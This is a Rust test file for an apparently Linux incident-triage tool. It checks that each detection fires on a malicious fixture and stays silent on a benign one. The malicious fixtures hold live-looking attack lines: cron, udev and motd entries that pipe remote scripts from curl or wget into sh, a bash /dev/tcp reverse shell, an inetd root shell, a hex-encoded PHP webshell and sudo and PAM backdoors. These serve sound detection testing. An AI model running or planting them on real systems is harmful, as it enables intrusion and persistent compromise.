//! Conformance: every check in the catalogue is well-formed, fires on a fixture built to
//! trigger it, and stays silent on a benign one. A new check without fixtures fails here.

mod support;

use firewarden_model::Severity;
use firewarden_source::FsSource;
use support::*;

struct Case {
    positive: Vec<Item>,
    negative: Vec<Item>,
    /// Pid the positive fixture hides from /proc listings.
    hide: Option<&'static str>,
}

fn case(positive: Vec<Item>, negative: Vec<Item>) -> Case {
    Case {
        positive,
        negative,
        hide: None,
    }
}

fn with_passwd(mut v: Vec<Item>) -> Vec<Item> {
    v.push(file("/etc/passwd", PASSWD));
    v
}

fn auth(lines: &[String]) -> Item {
    Item::File("/var/log/auth.log", lines.join("\n").into_bytes(), 0o640)
}

fn failures(ip: &str, n: usize) -> Vec<String> {
    (0..n).map(|i| format!("Nov 20 10:{:02}:{:02} web01 sshd[{}]: Failed password for root from {ip} port {} ssh2", i / 60, i % 60, 1000 + i, 40000 + i)).collect()
}

fn procs(list: Vec<FakeProc>, extra: Vec<Item>) -> Vec<Item> {
    let mut v: Vec<Item> = list.iter().flat_map(|p| p.items()).collect();
    v.push(file("/proc/uptime", "100000.00 190000.00\n"));
    v.push(file("/proc/net/tcp", "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"));
    v.extend(extra);
    v
}

fn tcp_table(rows: &[&str]) -> Item {
    let mut t = String::from(
        "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n",
    );
    for r in rows {
        t.push_str(r);
        t.push('\n');
    }
    Item::File("/proc/net/tcp", t.into_bytes(), 0o444)
}

fn elf() -> Vec<u8> {
    let mut v = b"\x7fELF\x02\x01\x01".to_vec();
    v.resize(64, 0);
    v
}

fn fixture(id: &str) -> Option<Case> {
    let webshell = unhex("3c3f70687020406576616c28245f504f53545b2778275d293b203f3e"); // a one-line PHP eval shell
    Some(match id {
        "linux.accounts.uid0" => case(
            vec![file("/etc/passwd", &format!("{PASSWD}toor:x:0:0::/root:/bin/bash\n"))],
            vec![file("/etc/passwd", PASSWD)],
        ),
        "linux.accounts.login_shell" => case(
            vec![file("/etc/passwd", &PASSWD.replace("/var/www:/usr/sbin/nologin", "/var/www:/bin/bash"))],
            vec![file("/etc/passwd", PASSWD)],
        ),
        "linux.accounts.weak_password" => case(
            with_passwd(vec![file("/etc/shadow", "root::19000:0:99999:7:::\nalice:$6$salt$hash:19000:0:99999:7:::\n")]),
            with_passwd(vec![file("/etc/shadow", "root:$y$j9T$salt$hash:19000:0:99999:7:::\nalice:!:19000:0:99999:7:::\n")]),
        ),
        "linux.accounts.sudo" => case(
            vec![file("/etc/sudoers", "root ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n"), Item::File("/etc/sudoers.d/90-backup", b"backup ALL=(ALL) NOPASSWD: ALL\n".to_vec(), 0o440)],
            vec![Item::File("/etc/sudoers", b"Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n".to_vec(), 0o440)],
        ),
        "linux.accounts.pam" => case(
            vec![file("/etc/pam.d/sshd", "auth sufficient pam_permit.so\n@include common-auth\n")],
            vec![file("/etc/pam.d/sshd", "@include common-auth\naccount required pam_nologin.so\nsession optional pam_motd.so\n")],
        ),
        "linux.ssh.authorized_keys" => case(
            with_passwd(vec![file("/root/.ssh/authorized_keys", "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr\n")]),
            with_passwd(vec![file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHx0ZXN0a2V5Zm9yZmlyZXdhcmRlbnRlc3RzMDAwMDA admin@laptop\n")]),
        ),
        "linux.ssh.config" => case(
            vec![file("/etc/ssh/sshd_config", "Port 22\nPermitEmptyPasswords yes\n")],
            vec![file("/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin prohibit-password\nPasswordAuthentication no\n")],
        ),
        "linux.logins.brute_force" => case(vec![auth(&failures("203.0.113.5", 30))], vec![auth(&failures("203.0.113.5", 2))]),
        "linux.logins.attacker_login" => case(
            vec![auth(&[failures("203.0.113.5", 8), vec!["Nov 20 11:00:00 web01 sshd[99]: Accepted password for alice from 203.0.113.5 port 5555 ssh2".into()]].concat())],
            vec![auth(&[failures("203.0.113.5", 8), vec!["Nov 20 11:00:00 web01 sshd[99]: Accepted publickey for alice from 198.51.100.7 port 5555 ssh2: ED25519 SHA256:abc".into()]].concat())],
        ),
        "linux.logins.record_tampering" => case(
            vec![bytes("/var/log/wtmp", [utmp_record(7, "alice", "198.51.100.7", 1_700_000_000, [198, 51, 100, 7]), vec![0u8; 384], utmp_record(8, "", "", 1_700_000_500, [0; 4])].concat())],
            vec![bytes("/var/log/wtmp", [utmp_record(7, "alice", "198.51.100.7", 1_700_000_000, [198, 51, 100, 7]), utmp_record(8, "", "", 1_700_000_500, [0; 4])].concat())],
        ),
        "linux.persistence.cron" => case(
            vec![file("/etc/cron.d/sysupdate", "*/10 * * * * root (curl -fsSL http://198.51.100.23/ldr.sh || wget -q -O- http://198.51.100.23/ldr.sh) | sh\n")],
            vec![file("/etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n"), file("/etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")],
        ),
        "linux.persistence.at" => case(
            vec![file("/var/spool/cron/atjobs/a0000101a2b3c4", "#!/bin/sh\n# atrun uid=0 gid=0\numask 22\ncd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n/tmp/.x/run\n"), file("/var/spool/cron/atjobs/.SEQ", "1\n")],
            vec![file("/var/spool/cron/atjobs/.SEQ", "0\n")],
        ),
        "linux.persistence.systemd" => case(
            vec![file("/etc/systemd/system/dbus-org.update.service", "[Service]\nExecStart=/tmp/.ICE-unix/.update --daemon\nRestart=always\n")],
            vec![file("/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n")],
        ),
        "linux.persistence.rc" => case(
            vec![exe("/etc/rc.local", "#!/bin/sh\nnohup /dev/shm/.k/run >/dev/null 2>&1 &\nexit 0\n", 0o755)],
            vec![exe("/etc/rc.local", "#!/bin/sh -e\nexit 0\n", 0o755)],
        ),
        "linux.persistence.shell_profile" => case(
            with_passwd(vec![file("/root/.bashrc", "alias ps='ps aux | grep -v kdevtmpfsi'\n")]),
            with_passwd(vec![file("/root/.bashrc", "alias ls='ls --color=auto'\nexport PATH=$PATH:/usr/local/bin\n")]),
        ),
        "linux.persistence.ld_preload" => case(
            vec![file("/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n")],
            vec![file("/etc/ld.so.conf.d/libc.conf", "/usr/local/lib\n")],
        ),
        "linux.persistence.udev" => case(
            vec![file("/etc/udev/rules.d/75-net.rules", "ACTION==\"add\", RUN+=\"/bin/sh -c 'curl -s http://198.51.100.9/u | sh'\"\n")],
            vec![file("/etc/udev/rules.d/70-net.rules", "SUBSYSTEM==\"net\", ACTION==\"add\", RUN+=\"/lib/udev/net.agent\"\n")],
        ),
        "linux.persistence.autostart" => case(
            vec![exe("/etc/update-motd.d/00-header", "#!/bin/sh\nwget -q -O- http://198.51.100.9/m | sh\n", 0o755)],
            vec![exe("/etc/update-motd.d/00-header", "#!/bin/sh\nprintf 'Welcome to %s\\n' \"$(uname -snrvm)\"\n", 0o755)],
        ),
        "linux.persistence.inetd" => case(
            vec![file("/etc/inetd.conf", "31337 stream tcp nowait root /bin/sh sh -i\n")],
            vec![file("/etc/inetd.conf", "#discard stream tcp nowait root internal\n")],
        ),
        "linux.persistence.suid" => case(
            vec![exe("/tmp/.x/bash", "#!", 0o4755)],
            vec![exe("/usr/bin/passwd", "#!", 0o4755)],
        ),
        "linux.process.miner" => case(
            procs(vec![FakeProc::new(4100, "xmrig", "./xmrig -o stratum+tcp://pool.example:3333 -u WALLET", "/var/tmp/.cache/xmrig")], vec![]),
            procs(vec![FakeProc::new(4100, "nginx", "nginx: worker process", "/usr/sbin/nginx")], vec![]),
        ),
        "linux.process.reverse_shell" => case(
            procs(vec![FakeProc { fds: vec![(0, "socket:[7001]".into()), (1, "socket:[7001]".into()), (2, "socket:[7001]".into())], ..FakeProc::new(4200, "bash", "bash -i", "/usr/bin/bash") }], vec![]),
            procs(vec![FakeProc { fds: vec![(0, "/dev/pts/0".into()), (1, "/dev/pts/0".into()), (2, "/dev/pts/0".into())], ..FakeProc::new(4200, "bash", "-bash", "/usr/bin/bash") }], vec![]),
        ),
        "linux.process.suspicious_exe" => case(
            procs(vec![FakeProc::new(4300, "kthreadd2", "/tmp/.x/agent", "/tmp/.x/agent (deleted)")], vec![]),
            procs(vec![FakeProc::new(4300, "nginx", "nginx: master process", "/usr/sbin/nginx")], vec![]),
        ),
        "linux.process.hidden" => Case {
            positive: procs(vec![FakeProc::new(100, "init", "/sbin/init", "/usr/lib/systemd/systemd"), FakeProc::new(4242, "rkd", "rkd", "/usr/bin/rkd")], vec![file("/proc/sys/kernel/ns_last_pid", "4250\n")]),
            negative: procs(vec![FakeProc::new(100, "init", "/sbin/init", "/usr/lib/systemd/systemd"), FakeProc::new(4242, "rkd", "rkd", "/usr/bin/rkd")], vec![]),
            hide: Some("4242"),
        },
        "linux.process.masquerade" => case(
            procs(vec![FakeProc::new(4400, "kworker/0:1", "[kworker/0:1]", "/usr/bin/python3.11")], vec![]),
            procs(vec![FakeProc::new(4400, "sshd", "sshd: /usr/sbin/sshd -D [listener]", "/usr/sbin/sshd")], vec![]),
        ),
        "linux.network.connections" => case(
            procs(vec![FakeProc { fds: vec![(3, "socket:[5555]".into())], ..FakeProc::new(4500, "bash", "bash", "/usr/bin/bash") }], vec![tcp_table(&["   0: 00000000:7A69 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 5555 1"])]),
            procs(vec![FakeProc { fds: vec![(3, "socket:[5556]".into())], ..FakeProc::new(4500, "mysqld", "/usr/sbin/mysqld", "/usr/sbin/mysqld") }], vec![tcp_table(&["   0: 0100007F:0CEA 00000000:0000 0A 00000000:00000000 00:00000000 00000000   118        0 5556 1"])]),
        ),
        "linux.files.package_integrity" => case(
            vec![exe("/usr/bin/ps", "#!/bin/sh\n/usr/bin/dpkgd/ps \"$@\" | grep -v miner\n", 0o755), file("/var/lib/dpkg/info/procps.md5sums", &format!("{}  usr/bin/ps\n", md5_hex(b"real ps binary"))), file("/var/lib/dpkg/info/procps.list", "/usr/bin/ps\n")],
            vec![exe("/usr/bin/ps", "real ps binary", 0o755), file("/var/lib/dpkg/info/procps.md5sums", &format!("{}  usr/bin/ps\n", md5_hex(b"real ps binary"))), file("/var/lib/dpkg/info/procps.list", "/usr/bin/ps\n")],
        ),
        "linux.files.moved_tools" => case(
            vec![bytes("/usr/lib/libsys/ps", elf()), bytes("/usr/lib/libsys/netstat", { let mut e = elf(); e.push(1); e }), exe("/usr/bin/ps", "#!/bin/sh\n/usr/lib/libsys/ps \"$@\" | grep -v kworkerd\n", 0o755)],
            // Packaged copies elsewhere (klibc's) and the real tools in place stay quiet.
            vec![bytes("/usr/lib/klibc/bin/ls", elf()), bytes("/usr/lib/klibc/bin/kill", elf()), bytes("/usr/bin/ps", elf()), file("/var/lib/dpkg/info/klibc-utils.list", "/usr/lib/klibc/bin/ls\n/usr/lib/klibc/bin/kill\n")],
        ),
        "linux.files.unowned_executables" => case(
            vec![bytes("/usr/bin/systemd-helper", elf()), file("/var/lib/dpkg/info/procps.list", "/usr/bin/ps\n")],
            vec![bytes("/usr/bin/ps", elf()), file("/var/lib/dpkg/info/procps.list", "/usr/bin/ps\n")],
        ),
        "linux.files.recent_changes" => case(
            vec![file("/etc/cron.daily/logrotate2", "x"), Item::Mtime("/etc/cron.daily/logrotate2", firewarden_model::Timestamp::now().0 + 90 * 86_400)],
            vec![file("/etc/hostname", "web01\n"), Item::Mtime("/etc/hostname", 1_600_000_000)],
        ),
        "linux.files.temp_dirs" => case(vec![bytes("/tmp/.X11-unix/.rsync/a", elf())], vec![file("/tmp/notes.txt", "hello\n"), exe("/tmp/build/.git/hooks/pre-commit.sample", "#!/bin/sh\n", 0o755)]),
        "linux.files.dev" => case(vec![file("/dev/.hdlc/config", "x"), Item::Dir("/dev/pts")], vec![Item::Dir("/dev/pts"), Item::Dir("/dev/shm")]),
        "linux.files.rootkit_paths" => case(vec![bytes("/lib/x86_64-linux-gnu/libkeyutils.so.1.9", elf())], vec![bytes("/lib/x86_64-linux-gnu/libkeyutils.so.1.6.3", elf())]),
        "linux.logs.tampering" => case(
            vec![Item::File("/var/log/auth.log", Vec::new(), 0o640), file("/var/log/auth.log.1", "Nov 19 10:00:00 web01 sshd[1]: Server listening on 0.0.0.0 port 22.\n")],
            vec![file("/var/log/auth.log", "Nov 20 10:00:00 web01 sshd[1]: Server listening on 0.0.0.0 port 22.\n"), file("/var/log/auth.log.1", "Nov 19 10:00:00 web01 sshd[1]: Server listening on 0.0.0.0 port 22.\n")],
        ),
        "linux.logs.history_tampering" => case(
            with_passwd(vec![link("/root/.bash_history", "/dev/null")]),
            with_passwd(vec![file("/root/.bash_history", "ls\n")]),
        ),
        "linux.logs.history_commands" => case(
            with_passwd(vec![file("/root/.bash_history", "cd /tmp\nwget http://198.51.100.23/x.sh -O- | sh\n")]),
            with_passwd(vec![file("/root/.bash_history", "ls -la\ncd /var/www\nsystemctl status nginx\n")]),
        ),
        "linux.services.exposed_datastore" => case(
            vec![file("/etc/redis/redis.conf", "bind 0.0.0.0\nprotected-mode no\nport 6379\n")],
            vec![file("/etc/redis/redis.conf", "bind 127.0.0.1 -::1\nprotected-mode yes\nrequirepass s3cret\n")],
        ),
        "linux.web.webshell" => case(
            vec![file("/var/www/html/uploads/img.php", &webshell)],
            vec![file("/var/www/html/index.php", "<?php echo htmlspecialchars($_GET['q'] ?? 'hello'); ?>\n")],
        ),
        "linux.web.tampering" => case(
            vec![file("/var/www/html/.user.ini", "auto_prepend_file=/tmp/.cache.png\n")],
            vec![file("/var/www/html/.user.ini", "upload_max_filesize=8M\n")],
        ),
        "linux.web.dump" => case(
            vec![file("/var/www/html/backup.sql", "-- MySQL dump 10.13  Distrib 8.0.35\n-- Server version\t8.0.35\n")],
            vec![file("/var/www/html/install.sql", "CREATE TABLE a (id int);\nINSERT INTO a VALUES (1);\n")],
        ),
        "linux.web.access" => case(
            vec![
                file("/var/www/html/uploads/img.php", &webshell),
                file("/var/log/nginx/access.log", "203.0.113.66 - - [20/Nov/2026:03:10:02 +0000] \"POST /uploads/img.php HTTP/1.1\" 200 31 \"-\" \"curl/8.0\"\n"),
            ],
            vec![
                file("/var/www/html/index.php", "<?php echo 1; ?>\n"),
                file("/var/log/nginx/access.log", "198.51.100.4 - - [20/Nov/2026:03:10:02 +0000] \"GET /index.php HTTP/1.1\" 200 1 \"-\" \"Mozilla/5.0\"\n"),
            ],
        ),
        "linux.files.malware" => case(
            vec![file("/tmp/.x/r.sh", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n")],
            vec![file("/tmp/notes.txt", "bash is a shell; /dev/tcp is a bash feature\n")],
        ),
        _ => return None,
    })
}

fn run_case(items: Vec<Item>, id: &str, hide: Option<&str>) -> firewarden_model::TriageReport {
    let dir = build(items);
    match hide {
        Some(pid) => run_on(
            &Hiding {
                inner: FsSource::root(dir.path()).unwrap(),
                hide: pid.into(),
            },
            id,
        ),
        None => run_check(dir.path(), id),
    }
}

#[test]
fn every_check_is_well_formed_fires_and_stays_silent() {
    let mut problems = Vec::new();
    let mut ids = std::collections::HashSet::new();
    for check in firewarden_triage::catalogue() {
        let m = &check.meta;
        if !ids.insert(m.id) {
            problems.push(format!("{}: duplicate id", m.id));
        }
        let parts: Vec<&str> = m.id.split('.').collect();
        if parts.len() != 3
            || parts[0] != "linux"
            || !m
                .id
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'.' || b == b'_')
        {
            problems.push(format!(
                "{}: id must be linux.<area>.<name> in lower case",
                m.id
            ));
        }
        if m.attack.is_empty()
            || !m
                .attack
                .iter()
                .all(|a| a.starts_with('T') && a[1..5].bytes().all(|b| b.is_ascii_digit()))
        {
            problems.push(format!("{}: needs valid ATT&CK ids", m.id));
        }
        if m.rows.is_empty() || m.title.is_empty() || m.description.len() < 40 {
            problems.push(format!(
                "{}: needs checklist rows, a title and a description",
                m.id
            ));
        }
        let Some(c) = fixture(m.id) else {
            problems.push(format!("{}: no fixtures in tests/catalogue.rs", m.id));
            continue;
        };
        let pos = run_case(c.positive, m.id, c.hide);
        let fired: Vec<_> = pos
            .findings
            .iter()
            .filter(|f| f.check == m.id && f.severity >= Severity::Low)
            .collect();
        if fired.is_empty() {
            problems.push(format!(
                "{}: positive fixture did not fire (checks: {:?}, warnings: {:?})",
                m.id, pos.checks, pos.warnings
            ));
        }
        for f in &fired {
            if f.explanation.is_empty()
                || f.recommendation.is_empty()
                || f.evidence.is_empty()
                || f.attack.is_empty()
            {
                problems.push(format!(
                    "{}: finding `{}` lacks explanation, recommendation, evidence or ATT&CK",
                    m.id, f.title
                ));
            }
        }
        let neg = run_case(c.negative, m.id, None);
        let noise: Vec<_> = neg
            .findings
            .iter()
            .filter(|f| f.check == m.id)
            .map(|f| f.title.clone())
            .collect();
        if !noise.is_empty() {
            problems.push(format!("{}: negative fixture fired: {noise:?}", m.id));
        }
    }
    assert!(
        problems.is_empty(),
        "catalogue problems:\n{}",
        problems.join("\n")
    );
}

/// The moved-aside tools are one finding that names the copies and the binaries replaced in
/// their usual place (a wrapper script, or other bytes than the copy).
#[test]
fn moved_tools_are_linked_to_the_binaries_they_replaced() {
    let mut other = elf();
    other.extend_from_slice(b"a trojaned build");
    let root = build(vec![
        bytes("/usr/bin/dpkgd/ps", elf()),
        bytes("/usr/bin/dpkgd/netstat", elf()),
        bytes("/usr/bin/dpkgd/ls", elf()),
        exe(
            "/usr/bin/ps",
            "#!/bin/sh\n/usr/bin/dpkgd/ps \"$@\" | grep -v kinsing\n",
            0o755,
        ),
        bytes("/usr/bin/netstat", other),
        bytes("/usr/bin/ls", elf()),
        // A single stray program in a non-hidden directory is not this finding.
        bytes("/usr/share/misc/top", elf()),
    ]);
    let r = run_check(root.path(), "linux.files.moved_tools");
    assert_eq!(r.findings.len(), 1, "{:#?}", r.findings);
    let f = &r.findings[0];
    assert_eq!(f.severity, Severity::Critical);
    assert!(
        f.title.contains("/usr/bin/dpkgd") && f.title.contains("netstat"),
        "{}",
        f.title
    );
    let paths: Vec<&str> = f
        .evidence
        .iter()
        .filter_map(|e| e.path.as_deref())
        .collect();
    for p in [
        "/usr/bin/dpkgd",
        "/usr/bin/dpkgd/ps",
        "/usr/bin/ps",
        "/usr/bin/netstat",
    ] {
        assert!(paths.contains(&p), "{p} not in {paths:?}");
    }
    // The unchanged ls is a copy, not a replacement.
    assert!(
        !f.evidence
            .iter()
            .any(|e| e.path.as_deref() == Some("/usr/bin/ls")),
        "{paths:?}"
    );
    assert!(
        f.explanation.contains("/usr/bin/ps is a script"),
        "{}",
        f.explanation
    );
}
